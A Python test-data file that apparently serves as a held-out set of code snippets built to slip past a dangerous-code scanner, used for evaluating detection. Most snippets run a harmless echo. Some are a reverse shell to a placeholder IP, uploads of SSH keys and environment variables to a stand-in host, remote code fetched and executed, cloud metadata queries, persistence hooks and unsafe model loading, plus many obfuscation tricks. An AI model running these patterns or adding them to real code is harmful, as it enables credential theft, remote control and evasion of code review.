"""Loaders that were written after the rules, by somebody who knew what the rules look for. Nothing of it is ever run."""

from __future__ import annotations

_TEXT = r"""
getattr(__import__('o''s'),'sys''tem')('echo inert')
###
import os as o; [o.system][0]('echo inert')
###
from os import *
system('echo inert')
###
f=lambda m: __import__(m); f('os').system('echo inert')
###
class A:
    def __getattr__(self,n): return __import__(n)
A().os.system('echo inert')
###
import importlib.util as u
s=u.find_spec('os'); m=u.module_from_spec(s); s.loader.exec_module(m); m.system('echo inert')
###
import builtins
b=vars(builtins); b['ev'+'al']("1")
###
x=(lambda: 0).__globals__['__builtins__']
###
import sys
sys.modules['os'].system('echo inert')
###
import types
types.FunctionType(compile('1','a','eval'),{})()
###
import functools, os
functools.partial(os.system,'echo inert')()
###
import operator, os
operator.methodcaller('system','echo inert')(os)
###
import threading, os
threading.Thread(target=os.system,args=('echo inert',)).start()
###
import atexit, os
atexit.register(os.system,'echo inert')
###
import os
list(map(os.system,['echo inert']))
###
import os
max(['echo inert'],key=os.system)
###
import os
sorted(['echo inert'],key=os.system)
###
import os
class M(type):
    def __init__(c,*a): os.system('echo inert')
class X(metaclass=M): pass
###
import os
class D:
    def __set_name__(self,o,n): os.system('echo inert')
class X: d=D()
###
import os
@os.system
def id(): pass
###
import os
@(lambda f: os.system('echo inert'))
class Z: pass
###
import os
def __getattr__(n): os.system('echo inert')
###
import pdb; pdb.run("x")
###
import code; code.InteractiveInterpreter().runsource('x')
###
import ctypes
ctypes.CDLL(None).system(b'echo inert')
###
import ctypes.util
libc=ctypes.cdll.LoadLibrary('libc.so.6'); libc.system(b'echo inert')
###
import cffi
f=cffi.FFI(); f.dlopen(None)
###
import pickle
pickle._loads(b'x')
###
import _pickle as p
p.loads(b'x')
###
from pickle import Unpickler as U
U(open('x','rb')).load()
###
import pandas as pd
pd.read_pickle('x')
###
import numpy
numpy.lib.npyio.format.read_array(open('x','rb'),allow_pickle=True)
###
import numpy as np
np.load('x',None,True)
###
import torch
torch.load('x',weights_only=False)
###
import torch
kw={'weights_only':False}
torch.load('x',**kw)
###
from torch.serialization import load
load('x')
###
import torch.serialization as s
s._legacy_load(open('x','rb'),None,None)
###
import urllib.request as r
exec(r.urlopen('http://example.invalid').read())
###
from urllib.request import urlopen
s=urlopen('http://example.invalid').read().decode(); exec(s)
###
import http.client
c=http.client.HTTPConnection('example.invalid'); c.request('GET','/'); exec(c.getresponse().read())
###
import base64
exec(base64.b64decode('cHJpbnQoMSk='))
###
import base64 as b
e=exec
e(b.b64decode(b'cHJpbnQoMSk='))
###
exec(bytes([112,114]).decode())
###
exec(''.join(map(chr,[112,114])))
###
exec("".join(chr(c-1) for c in b"qsjou"))
###
exec(bytes.fromhex('70'))
###
import codecs
exec(codecs.decode('cevag','rot13'))
###
import zlib
exec(zlib.decompress(open('w.bin','rb').read()))
###
exec(open('weights.bin').read())
###
eval(input())
###
import runpy; runpy.run_path('x.bin')
###
import subprocess as s
s.Popen('echo inert',shell=True)
###
from subprocess import getoutput as g
g('echo inert')
###
import asyncio
asyncio.run(asyncio.create_subprocess_shell('echo inert'))
###
import asyncio
async def f():
    loop=asyncio.get_event_loop()
    await loop.subprocess_exec(asyncio.SubprocessProtocol,'echo inert')
asyncio.run(f())
###
import os
os.execvp('sh',['sh'])
###
import posix
posix.system('echo inert')
###
import nt
nt.system('echo inert')
###
import pty; pty.spawn('sh')
###
import webbrowser; webbrowser.open('http://example.invalid')
###
import socket
s=socket.socket(); s.connect(('203.0.113.5',4444))
###
import socket,os
s=socket.create_connection(('203.0.113.5',4444)); [os.dup2(s.fileno(),i) for i in (0,1,2)]
###
import requests
requests.post('http://example.invalid',data=open('~/.ssh/id_rsa').read())
###
import requests, os
requests.post('http://example.invalid',json=dict(os.environ))
###
import urllib3
urllib3.PoolManager().request('GET','http://169.254.169.254/metadata')
###
from azure.identity import DefaultAzureCredential
from azure.keyvault.secrets import SecretClient
SecretClient('https://x.vault.azure.net',DefaultAzureCredential()).list_properties_of_secrets()
###
import os
open(os.path.expanduser('~/.bashrc'),'a').write('x')
###
import site, os
open(os.path.join(site.getsitepackages()[0],'x.pth'),'w').write('import x')
###
import pip
pip.main(['install','x'])
###
import sys,subprocess
subprocess.check_call([sys.executable,'-m','pip','install','x'])
###
import os
os.putenv('LD_PRELOAD','x.so')
os.environ['LD_PRELOAD']='x.so'
###
import sys
sys.path.insert(0,'/tmp/x'); import evil
###
import inspect
inspect.currentframe().f_back.f_globals['os']
###
().__class__.__base__.__subclasses__()
###
import importlib
importlib.import_module('.'.join(['os'])).system('echo inert')
###
import importlib as i
m=i.import_module(input()); m.run()
###
import os
eval.__call__('1')
###
import os
os.__dict__['sys'+'tem']('echo inert')
###
import os
vars(os)['system']('echo inert')
###
import os
getattr(os,dir(os)[-5])('echo inert')
###
import os
[v for k,v in os.__dict__.items() if k.startswith('syst')][0]('echo inert')
###
import os
next(getattr(os,n) for n in dir(os) if n[:4]=='syst')('echo inert')
###
import os
d={'a':os.system}
d['a']('echo inert')
###
import os
def g(): return os.system
g()('echo inert')
###
import os
def g(f): f('echo inert')
g(os.system)
###
import os
s=os
for _ in range(1): t=s
t.system('echo inert')
###
import os
a=b=os
b.system('echo inert')
###
import os
(a,b)=(1,os.system); b('echo inert')
###
import os
a,*b=[1,os.system]; b[0]('echo inert')
###
import os
match os:
    case m: m.system('echo inert')
###
import os
try: raise Exception(os)
except Exception as e: e.args[0].system('echo inert')
###
import os
(lambda os=os: os.system('echo inert'))()
###
import os
class C: s=os.system
C.s('echo inert')
###
import os
class C:
    @staticmethod
    def f(): return os
C.f().system('echo inert')
###
import os
print(f"{os.system('echo inert')}")
###
import os
assert os.system('echo inert')==0
###
import os
del [os.system('echo inert') for _ in 'a'][0:0]
###
import os
x: int = os.system('echo inert')
###
import os
type('X',(),{'f':os.system('echo inert')})
###
import os
with open('x') as f, os.popen('echo inert'): pass
###
import os
async def a(): os.system('echo inert')
a().send(None)
###
import os
def g(): yield os.system('echo inert')
next(g())
###
import os
object.__getattribute__(os,'system')('echo inert')
###
import os
type(os).__getattribute__(os,'system')('echo inert')
###
import yaml
yaml.load(open('x'),Loader=yaml.Loader)
###
import yaml
yaml.unsafe_load(open('x'))
###
import dill; dill.load(open('x','rb'))
###
import joblib; joblib.load('x')
###
import shelve; shelve.open('x')
###
import marshal
exec(marshal.loads(b'x'))
###
import tensorflow as tf
tf.keras.models.load_model('x',safe_mode=False)
###
import keras
keras.config.enable_unsafe_deserialization()
###
from transformers import AutoModel
AutoModel.from_pretrained('x',trust_remote_code=True)
###
from transformers import AutoModel
AutoModel.from_pretrained('x',**{'trust_remote_code':True})
###
import torch.hub
torch.hub.load('a/b','c')
###
from torch.utils.cpp_extension import load_inline
load_inline('x',cpp_sources='int x;')
###
import torch
torch.ops.load_library('x.so')
###
import sqlite3
c=sqlite3.connect(':memory:'); c.enable_load_extension(True); c.load_extension('x')
###
import logging.config
logging.config.listen(9999)
###
import tempfile,os
p=tempfile.mktemp(); open(p,'w').write('echo inert'); os.chmod(p,0o755); os.spawnl(os.P_WAIT,p,p)
###
import platform
platform.popen('echo inert')
###
import distutils.spawn as d
d.spawn(['echo inert'])
###
import timeit; timeit.timeit("__import__('os').system('echo inert')")
###
import cProfile; cProfile.run("1")
###
import unittest.mock as m
m._importer('os').system('echo inert')
###
import pkgutil
pkgutil.resolve_name('os:system')('echo inert')
###
import pydoc
pydoc.locate('os.system')('echo inert')
###
import zipimport
zipimport.zipimporter('x.zip').load_module('evil')
###
import test.support.script_helper as s
s.assert_python_ok('-c','1')
###
import venv; venv.create('/tmp/x',with_pip=True)
###
import ensurepip; ensurepip.bootstrap()
###
import concurrent.futures as c, os
c.ThreadPoolExecutor().submit(os.system,'echo inert')
###
import sched,time,os
s=sched.scheduler(); s.enter(0,1,os.system,('echo inert',)); s.run()
###
import signal,os
signal.signal(signal.SIGALRM,lambda *a: os.system('echo inert')); signal.alarm(1)
###
import sys,os
sys.settrace(lambda *a: os.system('echo inert'))
###
import weakref,os
weakref.finalize(type('x',(),{})(),os.system,'echo inert')
###
import os
os.register_at_fork(after_in_child=lambda: os.system('echo inert'))
###
import re,os
re.sub('a',lambda m: str(os.system('echo inert')),'a')
###
import os, itertools
list(itertools.starmap(os.system,[('echo inert',)]))
###
import numpy as np
np.vectorize(__import__('os').system)(['echo inert'])
###
import numpy.f2py as f
f.compile('x')
###
import numpy.distutils.exec_command as e
e.exec_command('echo inert')
###
import pandas as pd
pd.eval("@x")
###
import torch
torch.package.PackageImporter('x').load_pickle('a','b')
"""
HELD_OUT = tuple(_TEXT.strip("\n").split("\n###\n"))
